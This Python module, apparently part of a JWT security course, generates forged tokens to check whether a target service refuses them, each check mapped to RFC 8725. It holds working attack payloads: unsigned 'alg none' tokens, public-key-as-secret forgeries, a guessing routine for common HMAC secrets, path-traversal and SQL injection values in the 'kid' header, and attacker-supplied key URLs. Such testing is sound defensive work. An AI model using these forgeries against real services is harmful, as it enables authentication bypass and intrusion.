"""The attacks: each gives tokens that must be refused, or a text that says why it has none."""

import hashlib
import hmac
import itertools
import json
import re
import string
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, HTTPServer

from course.attack.target import Target
from course.token_parts import decode_part, encode_part

# What tutorials, templates and tired people write. Every word of up to four small letters is tried besides.
USUAL_SECRETS = (
    "secret", "your-secret-key", "your_secret_key", "your-256-bit-secret", "super-secret", "supersecret",
    "super_secret", "secret_key", "secret-key", "secretkey", "my_secret_key", "my-secret-key", "mysecretkey",
    "changeme", "change-me", "change_me", "changethis", "password", "passw0rd", "123456", "12345678", "qwerty",
    "letmein", "admin", "test", "testing", "jwt-secret", "jwt_secret", "jwtsecret", "JWT_SECRET_KEY", "SECRET_KEY",
    "development", "dev-secret", "default", "example", "token", "flask-secret", "django-insecure", "shhhhh",
    # The key of the article that this course grew out of: PUBLIC AND BURNT.
    "9b73f2a1bdd7ae163444473d29a6885ffa22ab26117068f72a5a56a74d12d1fc",
)  # fmt: skip
HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
OWN_KEY = "a key of the attacker, long enough to be one"


@dataclass(frozen=True)
class Try:
    """A token that must be refused. ``header`` replaces the header Authorization; ``status`` is known already."""

    label: str
    token: str
    header: str | None = None
    status: int | None = None


Tries = Iterator[Try | str]


class Knowledge:
    """What the attacker has.

    Raises:
        ValueError: if the good token is not a signed JWT, or something is of another kind.
    """

    def __init__(self, target: Target, token, public_key, other_token, expired_token, file):
        self.target, self.token = target, token
        self.other_token, self.expired_token, self.file = other_token, expired_token, file
        self.public_key = public_key.encode() if isinstance(public_key, str) else public_key
        try:
            head, body, self.signature = token.split(".")
            self.header, self.claims = (json.loads(decode_part(part)) for part in (head, body))
            self.algorithm = self.header["alg"]
        except (AttributeError, ValueError, KeyError, TypeError) as error:
            raise ValueError("The good token must be a signed JWT, with three parts.") from error
        self.body = body

    def forged(self, changes: dict, secret: bytes | None = None, digest="sha256", body=None) -> str:
        """The claims of the good token under a changed header, signed by HMAC, or not at all."""
        header = {"alg": self.algorithm, "typ": self.header.get("typ", "JWT")} | changes
        signing_input = f"{encode_part(json.dumps(header).encode())}.{body or self.body}"
        if secret is None:
            return signing_input + "."
        return f"{signing_input}.{encode_part(hmac.digest(secret, signing_input.encode(), digest))}"


def alg_none(known: Knowledge) -> Tries:
    for name in ("none", "None", "NONE", "nOnE"):
        token = known.forged({"alg": name})
        yield Try(f"`alg` {name}, without a signature", token)
        yield Try(f"`alg` {name}, with the old signature", token + known.signature)


def unverified(known: Knowledge) -> Tries:
    head = known.token.split(".")[0]
    changed = encode_part(json.dumps(known.claims | {"changed": True}).encode())
    yield Try("changed claims under the old signature", f"{head}.{changed}.{known.signature}")
    yield Try("the token without its signature", f"{head}.{known.body}.")
    for length in (1, 32, 64, 256):
        yield Try(
            f"a signature of {length} zero bytes",
            f"{head}.{known.body}.{encode_part(bytes(length))}",
        )


def public_key_as_secret(known: Knowledge) -> Tries:
    if known.public_key is None:
        yield "give the public key, if there is one"
        return
    for spelling, secret in _spellings(known.public_key):
        for algorithm, digest in HASHES.items():
            token = known.forged({"alg": algorithm}, secret, digest)
            yield Try(f"{algorithm} with the public key as secret ({spelling})", token)
            if "kid" in known.header:
                named = known.forged({"alg": algorithm, "kid": known.header["kid"]}, secret, digest)
                yield Try(
                    f"{algorithm} with the public key as secret ({spelling}, `kid` kept)", named
                )


def _spellings(pem: bytes) -> Iterator[tuple[str, bytes]]:
    yield "as it is", pem
    yield "without the last line break", pem.rstrip(b"\n")
    yield "with one more", pem.rstrip(b"\n") + b"\n"
    inside = b"".join(re.findall(rb"^[A-Za-z0-9+/=]+$", pem, re.M))
    yield "the text inside", inside
    try:
        from cryptography.hazmat.primitives import serialization as s

        key = s.load_pem_public_key(pem)
        yield "as DER", key.public_bytes(s.Encoding.DER, s.PublicFormat.SubjectPublicKeyInfo)
    except (ImportError, ValueError):
        return


def guessable_secret(known: Knowledge) -> Tries:
    if known.algorithm not in HASHES:
        yield f"signed with {known.algorithm}: there is no secret to guess"
        return
    signing_input = known.token.rpartition(".")[0].encode()
    digest, wanted = HASHES[known.algorithm], decode_part(known.signature)
    for secret in _guesses():
        if hmac.digest(secret, signing_input, digest) == wanted:
            word = secret.decode() or "(nothing)"
            token = known.forged(known.header, secret, digest)
            yield Try(f"a token signed with the secret that was guessed: {word}", token)
            return
    yield Try(
        "a secret that is not the right one", known.forged({}, b"not the right one"), status=401
    )


def _guesses() -> Iterator[bytes]:
    for word in USUAL_SECRETS:
        for start in (word, word.capitalize(), word.upper()):
            for end in ("", "1", "123", "!", "\n"):
                yield (start + end).encode()
    letters = string.ascii_lowercase.encode()
    for length in range(5):
        yield from map(bytes, itertools.product(letters, repeat=length))


def empty_key(known: Knowledge) -> Tries:
    for algorithm, digest in HASHES.items():
        for secret in (b"", b"\0"):
            named = "an empty key" if not secret else "a key of one zero byte"
            yield Try(f"{algorithm} with {named}", known.forged({"alg": algorithm}, secret, digest))


def key_in_the_header(known: Knowledge) -> Tries:
    from joserfc import jwt
    from joserfc.jwk import ECKey, RSAKey

    for algorithm, key in (
        ("ES256", ECKey.generate_key("P-256")),
        ("RS256", RSAKey.generate_key(2048)),
    ):
        header = {
            "alg": algorithm,
            "typ": known.header.get("typ", "JWT"),
            "jwk": key.as_dict(private=False),
        }
        yield Try(f"{algorithm} with the key in `jwk`", jwt.encode(header, known.claims, key))
    with _listener(key) as (address, visits):
        for member in ("jku", "x5u"):
            header = {
                "alg": "RS256",
                "typ": known.header.get("typ", "JWT"),
                member: address,
                "kid": "own",
            }
            token = jwt.encode(header, known.claims, key, registry=_lenient())
            status = known.target.ask(token)
            if visits and status >= 300:
                yield Try(
                    f"fetching an address that the token names in `{member}`", token, status=200
                )
            yield Try(f"RS256 with the address of the key in `{member}`", token, status=status)


def _lenient():
    from joserfc.jws import JWSRegistry

    return JWSRegistry(strict_check_header=False)


class _listener:
    """A server of the attacker's on this machine, which has his public key, and counts who comes."""

    def __init__(self, key):
        content = json.dumps(
            {"keys": [key.as_dict(private=False) | {"kid": "own", "use": "sig"}]}
        ).encode()
        self.visits = visits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                visits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, *arguments):
                """Says nothing: a line would land in the cell that is running."""

        self.server = HTTPServer(("127.0.0.1", 0), Handler)

    def __enter__(self):
        threading.Thread(target=self.server.serve_forever, args=(0.02,), daemon=True).start()
        return f"http://127.0.0.1:{self.server.server_port}/jwks.json", self.visits

    def __exit__(self, *_):
        self.server.shutdown()
        self.server.server_close()


def kid_as_a_path(known: Knowledge) -> Tries:
    for ups in (0, 3, 6, 9):
        kid = "../" * ups + ("dev/null" if ups else "/dev/null")
        yield Try(f"`kid` {kid}, an empty file", known.forged({"alg": "HS256", "kid": kid}, b""))
    if known.file is None:
        return
    content = known.target.read(known.file)
    if content is None:
        return
    names = [known.file.lstrip("/"), known.file.rpartition("/")[2]]
    for name, ups in itertools.product(names, range(5)):
        kid = "../" * ups + name
        yield Try(
            f"`kid` {kid}, a file that everybody has",
            known.forged({"alg": "HS256", "kid": kid}, content),
        )


def kid_in_a_query(known: Knowledge) -> Tries:
    secret = OWN_KEY.encode()
    for quote, columns, end in itertools.product(("'", '"', ""), (1, 2, 3), ("", "open")):
        value = f"'{OWN_KEY}'"
        kid = f"x{quote} UNION SELECT {', '.join([value] * columns)} -- "
        if end == "open":
            # The query's own quotation mark ends the text.
            if not quote:
                continue
            kid = f"x{quote} UNION SELECT {', '.join([value] * (columns - 1) + [quote + OWN_KEY])}"
        yield Try(f"`kid` {kid}", known.forged({"alg": "HS256", "kid": kid}, secret))


def another_kind(known: Knowledge) -> Tries:
    if known.other_token is None:
        yield "give another genuine token of the same issuer, such as an ID token"
        return
    yield Try("a genuine token that is meant for something else", known.other_token)


def expired(known: Knowledge) -> Tries:
    if known.expired_token is None:
        yield "give a genuine token that has expired"
        return
    yield Try("a token that has expired", known.expired_token)


def token_in_the_address(known: Knowledge) -> Tries:
    for name in ("access_token", "token", "jwt", "id_token"):
        status = known.target.ask(None, query={name: known.token})
        yield Try(
            f"the token in the address, as `{name}`: it stands in every log",
            known.token,
            status=status,
        )


def crashes(known: Knowledge) -> Tries:
    """Whatever comes, a refusal is no accident."""
    for what, header in _odd_headers(known):
        head = encode_part(header if isinstance(header, bytes) else json.dumps(header).encode())
        yield Try(what, f"{head}.{known.body}.{known.signature}")
    for what, body in (
        ("a payload that is a list", b'["sub"]'), ("a payload that is no JSON", b"{"),
        ("a payload that is no UTF-8", b"\xff\xfe"), ("a payload nested deeply", b"[" * 3_000),
    ):  # fmt: skip
        yield Try(what, f"{known.token.split('.')[0]}.{encode_part(body)}.{known.signature}")
    for what, token in (
        ("two parts", "a.b"), ("four parts", "a.b.c.d"), ("five parts", f"{known.token}..a"),
        ("dots alone", ".."), ("no base64", "%%%.%%%.%%%"), ("not ASCII", "é.è.ê"),
    ):  # fmt: skip
        yield Try(what, token)
    for header in (
        "Bearer",
        "Bearer ",
        ", ,",
        "Bearer a b",
        f"Bearer {known.token}, Bearer {known.token}",
        "\x01",
    ):
        yield Try(f"the header Authorization: {header[:20]!a}", "", header=header)


def _odd_headers(known: Knowledge) -> Iterator[tuple[str, dict | bytes]]:
    alg = {"alg": known.algorithm}
    for value in (None, [], {}, 7, True, "x" * 2_000, "\ud800", "\0"):
        yield f"`kid` {json.dumps(value)[:20]}", alg | {"kid": value}
        yield f"`alg` {json.dumps(value)[:20]}", {"alg": value}
    yield "no `alg`", {}
    yield "`typ` that is a list", alg | {"typ": []}
    yield "`crit` that nobody knows", alg | {"crit": ["x"], "x": 1}
    yield "`jwk` that is no key", alg | {"jwk": {}}
    yield "a header that is a list", b"[]"
    yield "a header that is no JSON", b"{"
    yield "a header nested deeply", b'{"alg":"HS256","x":' + b"[" * 3_000


CHECKS: tuple[tuple[str, str, Callable[[Knowledge], Tries]], ...] = (
    ("8725 §2.1", "alg none", alg_none),
    ("8725 §2.1", "signature not verified", unverified),
    ("8725 §2.1", "public key as secret", public_key_as_secret),
    ("8725 §3.5", "guessable secret", guessable_secret),
    ("8725 §3.5", "empty key", empty_key),
    ("8725 §3.10", "key in the header", key_in_the_header),
    ("8725 §3.10", "kid as a path", kid_as_a_path),
    ("8725 §3.10", "kid in a query", kid_in_a_query),
    ("8725 §3.12", "another kind of token", another_kind),
    ("7519 §4.1", "expired token", expired),
    ("6750 §2.3", "token in the address", token_in_the_address),
    ("9110 §15.6", "crash on odd input", crashes),
)
